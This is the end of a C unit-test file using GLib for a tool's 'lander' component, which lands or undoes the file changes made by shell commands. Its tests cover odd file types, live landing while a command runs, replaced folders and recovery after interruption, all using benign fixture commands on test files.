  command (fixture, "echo x >>a; echo x >>b; rm c; echo n >n; mkdir made; echo 1 >made/1; echo 2 >made/2");
  survey (fixture);
  keep_all (fixture);
  land (fixture);
  run (fixture, "echo mine >>a; echo mine >c; echo mine >made/1; cp b b2; mv b2 b");
  undo (fixture);
  assert_list (fixture, "*a kept\n*b undone\n-c kept\n+made/1 kept\n+made/2 undone\n+n undone\n");
  g_assert_nonnull (beckon_change_set_get (fixture->landing->changes, 0)->remark);
  run (fixture, "grep -q mine a; test \"$(cat b)\" = b; test \"$(cat c made/1 | uniq)\" = mine; test ! -e made/2; test ! -e n");
}

/* Names too deep to be reached, and things that are no files. */
static void
test_odd (Fixture *fixture, gconstpointer data)
{
  command (fixture, "mkfifo pipe; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'; "
                    "d=deep; mkdir $d; cd $d; i=0; while [ $i -lt 300 ]; do mkdir d; cd d; i=$((i+1)); done; echo x >x");
  survey (fixture);
  assert_list (fixture, "+deep/0 failed\n+pipe open\n+sock failed\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "test -p pipe; test ! -e sock; test ! -e deep");
}

static void
wait_until (Fixture *fixture, const char *name)
{
  g_autofree char *path = g_build_filename (fixture->top, name, NULL);
  gint64 deadline = g_get_monotonic_time () + 20 * G_USEC_PER_SEC;

  while (!g_file_test (path, G_FILE_TEST_EXISTS) && g_get_monotonic_time () < deadline)
    g_usleep (1000);
  g_assert_true (g_file_test (path, G_FILE_TEST_EXISTS));
}

static gpointer
run_long (gpointer data)
{
  Fixture *fixture = data;

  return GINT_TO_POINTER (beckon_view_run (
      fixture->place, fixture->folder,
      "echo one >>a; echo n >n; mkdir made; echo 1 >made/1; echo 2 >made/2; rm gone; touch ../ready; "
      "until test -e ../go; do sleep 0.01; done; echo two >>a; echo more >>made/1; rm b; echo late >late"));
}

/* Land Now: what a command has changed until now lands, while it goes on. What lands at its end is the rest. */
static void
test_live (Fixture *fixture, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  char *place = fixture->place;
  g_autofree char *copy = NULL;
  g_autofree char *landed = NULL;
  g_autofree char *undone = NULL;
  g_autoptr (BeckonLanding) first = NULL;
  GThread *thread;

  run (fixture, "echo a >a; echo b >b; echo gone >gone");
  fixture->base = beckon_landing_survey_now ();
  thread = g_thread_new ("command", run_long, fixture);
  wait_until (fixture, "ready");
  copy = beckon_landing_place_copy (place, "call-live", &error);
  g_assert_no_error (error);
  fixture->place = copy;
  survey (fixture);
  assert_list (fixture, "*a open\n-gone open\n+made/1 open\n+made/2 open\n+n open\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "grep -q one a; test -e made/2; test ! -e gone; touch ../go");
  beckon_lander_note_landed (fixture->landing, place, &error);
  g_assert_no_error (error);
  landed = describe (fixture);
  first = g_steal_pointer (&fixture->landing);
  fixture->place = place;
  g_assert_cmpint (GPOINTER_TO_INT (g_thread_join (thread)), ==, 0);

  run (fixture, "echo mine >>n; rm made/2");
  survey (fixture);
  assert_list (fixture, "*a open\n-b open\n+late open\n*made/1 open\n*n conflict open\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "grep -q two a; grep -q more made/1; test ! -e b; test -e late; grep -q mine n; test ! -e made/2");
  undo (fixture);
  run (fixture, "! grep -q two a; ! grep -q more made/1; test -e b; test ! -e late; grep -q mine n");
  beckon_landing_free (g_steal_pointer (&fixture->landing));
  fixture->landing = g_steal_pointer (&first);
  undo (fixture);
  run (fixture, "test \"$(cat a)\" = a; test -e gone; grep -q mine n; test ! -e made");
  beckon_landing_place_remove (copy, &error);
  g_assert_no_error (error);
}

/* A folder that a file has landed in is made anew: that file is gone, and what another writer has put there stays. */
static void
test_live_replaced (Fixture *fixture, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *copy = NULL;
  char *place = fixture->place;
  gint64 base;

  run (fixture, "mkdir d; echo a >d/a");
  command (fixture, "echo x >d/x");
  base = fixture->base;
  copy = beckon_landing_place_copy (place, "call-live", &error);
  g_assert_no_error (error);
  fixture->place = copy;
  survey (fixture);
  run (fixture, "echo mine >d/mine");
  keep_all (fixture);
  land (fixture);
  g_assert_true (beckon_lander_note_landed (fixture->landing, place, &error));
  g_clear_pointer (&fixture->landing, beckon_landing_free);
  fixture->place = place;

  command (fixture, "rm -r d; mkdir d; echo z >d/z");
  fixture->base = base;
  survey (fixture);
  assert_list (fixture, "-d/a open\n-d/x open\n+d/z open\n");
  beckon_landing_place_remove (copy, &error);
  g_assert_no_error (error);
}

static void
finish_noted (Fixture *fixture, const char *expected)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *half = describe (fixture);
  g_autofree char *after = NULL;

  beckon_lander_note_finish (fixture->place, &error);
  g_assert_no_error (error);
  after = describe (fixture);
  g_assert_cmpstr (half, !=, after);
  g_assert_cmpstr (after, ==, expected);
}

/* No store knows of it: its place does. */
static void
test_noted (Fixture *fixture, gconstpointer data)
{
  g_autofree char *before = NULL;
  g_autofree char *landed = NULL;
  g_autoptr (GError) error = NULL;

  run (fixture, "echo one >one; echo two >two; touch three four");
  before = describe (fixture);
  command (fixture, "echo more >one; rm two; echo new >five; rm four");
  survey (fixture);
  keep_all (fixture);
  beckon_lander_plan (fixture->landing, &error);
  g_assert_no_error (error);
  beckon_lander_note_write (fixture->landing, &error);
  g_assert_no_error (error);
  be_killed (fixture, beckon_lander_land, 3);
  beckon_lander_note_finish (fixture->place, &error);
  g_assert_no_error (error);
  landed = describe (fixture);
  run (fixture, "test \"$(cat one five)\" = \"$(printf 'more\\nnew')\"; test ! -e two; test ! -e four");

  be_killed (fixture, beckon_lander_undo, 3);
  finish_noted (fixture, before);
  beckon_lander_note_finish (fixture->place, &error);
  g_assert_no_error (error);
}

static void
add_cases (void)
{
  CASE ("/lander/plain", test_plain);
  CASE ("/lander/nothing", test_nothing);
  CASE ("/lander/git-index", test_git_index);
  CASE ("/lander/git-index/split", test_git_index_split);
  CASE ("/lander/within-git", test_within_git);
  CASE ("/lander/moved-in", test_moved_in);
  CASE ("/lander/replaced-inside", test_replaced_inside);
  CASE ("/lander/other-folder", test_other_folder);
  CASE ("/lander/links", test_links);
  CASE ("/lander/led-by-git", test_led_by_git);
  CASE ("/lander/led-by-unread", test_led_by_unread);
  CASE ("/lander/deep", test_deep);
  CASE ("/lander/locked", test_locked);
  CASE ("/lander/unwritten", test_unwritten);
  CASE ("/lander/planted", test_planted);
  CASE ("/lander/half-commit", test_half_commit);
  CASE ("/lander/half-commit-later", test_half_commit_later);
  CASE ("/lander/conflicts", test_conflicts);
  CASE ("/lander/conflict-kept", test_conflict_kept);
  CASE ("/lander/gone-meanwhile", test_gone_meanwhile);
  CASE ("/lander/encoded", test_encoded);
  CASE ("/lander/controls", test_controls);
  CASE ("/lander/two-commands", test_two_commands);
  CASE ("/lander/part", test_part_of_folder);
  CASE ("/lander/many", test_many);
  CASE ("/lander/crowd", test_crowd);
  CASE ("/lander/crowd-of-all", test_crowd_of_all);
  CASE ("/lander/least", test_least);
  CASE ("/lander/secret", test_secret);
  CASE ("/lander/undo-refused", test_undo_refused);
  CASE ("/lander/odd", test_odd);
  CASE ("/lander/live", test_live);
  CASE ("/lander/live/replaced", test_live_replaced);
  CASE ("/lander/noted", test_noted);
  CASE ("/lander/bare-later", test_bare_later);
}

int
main (int argc, char **argv)
{
  return run_cases (&argc, &argv, add_cases);
}
